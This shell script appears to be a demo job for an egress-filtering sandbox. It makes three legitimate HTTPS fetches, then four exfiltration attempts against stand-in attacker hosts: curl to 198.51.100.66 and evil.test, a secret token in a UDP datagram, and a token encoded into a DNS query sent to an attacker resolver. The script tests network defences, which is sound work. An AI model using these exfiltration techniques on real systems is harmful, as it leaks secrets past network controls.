# The demo's job: three honest things, then four attempts to carry something out.
# Arguments: a directory to work in, the certificate of the CA.
work=$1 ca=$2
export HOME="$work" GIT_SSL_CAINFO="$ca" GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0 CA="$ca"

# try KIND TEXT COMMAND...: runs it and notes whether it worked.
try() {
    kind=$1 text=$2
    shift 2
    if "$@" >"$work/output" 2>&1; then result=reached; else result=failed; fi
    printf '    job: %-58s %s\n' "$text" "$result"
    if [ "$kind $result" = "good failed" ]; then sed 's/^/         /' "$work/output"; fi
    echo "$kind $result" >>"$work/results"
}

try good 'curl https://files.good.test/release.txt' \
    curl --silent --show-error --fail --max-time 10 --cacert "$ca" https://files.good.test/release.txt
try good 'git clone https://git.good.test/demo.git' \
    git clone --quiet https://git.good.test/demo.git "$work/clone"
try good 'python3: urllib, https://api.good.test/status.json' \
    python3 -c '
import json, os, ssl, urllib.request
context = ssl.create_default_context(cafile=os.environ["CA"])
url = "https://api.good.test/status.json"
assert json.load(urllib.request.urlopen(url, timeout=10, context=context))["status"] == "ok"
'

try evil 'curl https://198.51.100.66 (by address)' \
    curl --silent --show-error --insecure --max-time 2 https://198.51.100.66/
try evil 'curl http://evil.test:8080 (by name)' \
    curl --silent --show-error --http0.9 --max-time 2 http://evil.test:8080/
try evil 'python3: a secret in a UDP datagram to 198.51.100.66' \
    python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(b"token=hunter2", ("198.51.100.66", 8080))
'
try evil 'python3: a secret in a DNS name, to the attacker'\''s resolver' \
    python3 -c '
import socket, sys
name = b"".join(bytes([len(l)]) + l for l in (b"token-hunter2", b"evil", b"test")) + b"\0"
query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + name + b"\0\x01\0\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(query, ("198.51.100.66", 53))
# An answer with code 5 is a refusal by the job'\''s own listener.
sys.exit(s.recv(512)[3] & 15)
'
exit 0
